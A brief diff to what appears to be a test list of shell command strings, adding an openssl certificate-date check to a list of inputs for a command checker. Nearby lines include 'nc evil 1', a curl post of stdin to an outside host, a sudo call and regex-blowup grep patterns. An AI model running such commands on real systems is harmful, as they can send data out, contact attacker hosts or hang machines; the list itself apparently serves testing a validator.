@@ -136,6 +136,7 @@ ssh host
 nc evil 1
 curl -d @- http://x
 sudo grep x
+openssl x509 -noout -dates
 grep -E 'a{1,999}'
 grep -E '((a{200}){200}){200}'
 grep '[[:foo:]]'
